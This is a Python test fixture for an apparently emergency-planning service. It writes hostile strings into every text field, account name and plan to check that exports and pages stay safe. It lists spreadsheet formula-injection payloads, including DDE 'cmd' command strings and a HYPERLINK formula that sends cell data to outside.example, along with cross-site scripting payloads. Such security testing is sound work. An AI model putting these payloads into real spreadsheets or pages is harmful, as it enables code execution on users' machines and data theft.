"""A store in which every text that people may write is one that a spreadsheet or a browser would run."""

import itertools
from datetime import timedelta
from typing import Final

import pandas as pd
import shapely
from sqlalchemy import Text

from geo.schema import Layer
from services import accounts
from services.briefing import BriefingTemplate, SectionChoice, SectionName, save_template
from services.catalog.actions import Action, Role
from services.context import Context
from services.modes import declare_mode
from services.planning import Move, PlanSettings, commit_plan, create_plan, send
from services.planning.orders import orders_between
from services.rules.areas import EVERYWHERE
from services.rules.windows import Mode, Window
from services.store import tables
from tests.acting import act

FORMULAS: Final = (
    '=HYPERLINK("http://outside.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=1+1\n=2+2",
)
"""What Excel, LibreOffice or WPS take for a formula."""
SCRIPTS: Final = (
    "<img src=x onerror=alert('XSS')>",
    "${alert('XSS')}",
    "`+alert('XSS')+`",
    "</script><script>alert('XSS')</script>",
    "![x](http://outside.example/x.png)",
    "[x](javascript:alert('XSS'))",
    "\"><svg onload=alert('XSS')>",
    "{{constructor.constructor('alert(1)')()}}",
)
"""What a page might run or fetch."""
_KEYS: Final = ("code", "identity_hash", "phone", "phone_hash", "keep_until")


def poison(office: Context, payloads: tuple[str, ...], window: Window) -> int:
    """Write payloads into every text of a filled store and return the number of a plan that became orders."""
    words = itertools.cycle(payloads)
    with act(office, Action.IMPORT) as work:
        _add_missing(work.tx)
        for layer in Layer:
            frame = work.tx.read_layer(layer)
            columns = [name for name in text_columns(layer) if name in frame.columns]
            spoilt = {name: [next(words) for _ in range(len(frame))] for name in columns}
            if len(frame) and columns:
                work.tx.upsert(layer, frame.assign(**spoilt))
    say = iter(words).__next__
    declare_mode(office, Mode.EMERGENCY, reason=say(), approver=say(), until=window.end + timedelta(days=1))
    save_template(
        office,
        BriefingTemplate(say()[:40], (SectionChoice(SectionName.PLAN, say()), SectionChoice(SectionName.DATA, say()))),
    )
    accounts.make_demo_accounts(office)
    for k, payload in enumerate(payloads):
        accounts.create_account(office, f"hostile{k}", payload)
        accounts.grant_role(office, f"hostile{k}", Role.SCREEN, EVERYWHERE)
    return _orders(office, say, window)


def text_columns(layer: Layer) -> list[str]:
    """Return the columns of a layer that take any text."""
    return [
        column.name
        for column in tables.layers[layer].columns
        if isinstance(column.type, Text) and column.name not in _KEYS and not column.name.endswith(("_code", "_codes"))
    ]


def _orders(office: Context, say: object, window: Window) -> int:
    with office.look(Action.PLAN) as tx:
        teams = tx.read_layer(Layer.TEAMS)
        grids = tx.read_codes(Layer.GRIDS)
    strong = teams[teams["size"] > 0].head(8)
    for state in ("draft", "committed"):
        settings = PlanSettings(purpose=say())
        plan = create_plan(office, window, Mode.EMERGENCY, event_id=state, name=say(), settings=settings)
        for code, team in strong.iterrows():
            goal = next(grid for grid in grids if grid != team["parent_code"])
            move = Move(str(code), goal, int(team["size"]), reason=say())
            send(office, plan.id, move, event_id=f"{state}-{code}")
    assert commit_plan(office, plan.id).is_sent
    assert orders_between(office, window)
    return plan.id


def _add_missing(tx: object) -> None:
    """Add a row to the layers of the town that have none."""
    here = tx.read_layer(Layer.GRIDS)["geom"].iloc[0].centroid
    rows = {
        Layer.UNITS: ({"name": "x", "contact": "x", "address": "x"}, here),
        Layer.POSTS: ({"name": "x", "kind": "gate", "place": "x"}, here),
        Layer.WATER: ({"name": "x", "kind": "x"}, shapely.MultiPolygon([here.buffer(1e-5)])),
        Layer.ROADS: (
            {"name": "x", "kind": "x"},
            shapely.MultiLineString([[(here.x, here.y), (here.x, here.y + 1e-4)]]),
        ),
    }
    for layer, (row, shape) in rows.items():
        if not tx.count(layer):
            frame = pd.DataFrame([{**row, "geom": shape}], index=pd.Index(["X1"], name="code"))
            tx.upsert(layer, frame)
